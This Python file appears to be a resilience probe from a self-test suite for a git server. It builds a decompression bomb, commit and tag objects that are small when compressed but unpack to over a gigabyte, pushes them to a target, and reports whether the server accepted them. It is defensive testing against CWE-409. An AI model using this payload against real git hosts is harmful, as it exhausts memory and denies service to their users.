"""Objects that unpack to more than the machine's memory."""

import os
import zlib
from collections.abc import Iterator
from functools import partial
from typing import Any

from bottle.selftest.kit import Attempt, attack
from bottle.selftest.probes.git import COMMIT, TAG, fresh, header, push, sealed

_PIECE = b"a" * 2**20
"""Which `size` counts."""


@attack(
    aim="git_large",
    source="CWE-409; Git's bombs, K. Yip 2017",
    expects="out of memory within the gate's own limit",
    control="git_small",
    every=True,
)
def attempts(aim: Any) -> Iterator[Attempt]:
    """Pushes a commit and a tag of more than a gigabyte, which are small when compressed."""
    yield "commit", partial(_burst, aim, COMMIT)
    yield "tag", partial(_burst, aim, TAG)


def _burst(aim: Any, kind: int) -> str | None:
    """What was unpacked is a gain, whatever becomes of it then."""
    check = 1
    for _ in range(aim["size"]):
        check = zlib.adler32(_PIECE, check)
    start = header(kind, aim["size"] * len(_PIECE)) + b"\x78\x9c"
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush() + check.to_bytes(4, "big")
    pack = sealed([start + _deflated(_PIECE) * aim["size"] + end])
    answer, _ = push(aim, [(fresh(aim["ref"]), os.urandom(20).hex())], pack)
    return f"taken: {answer[:200]!r}" if b"unpack ok" in answer else None


def _deflated(data: bytes) -> bytes:
    """Stands for itself wherever it is put into a stream."""
    made = zlib.compressobj(9, zlib.DEFLATED, -15)
    return made.compress(data) + made.flush(zlib.Z_FULL_FLUSH)
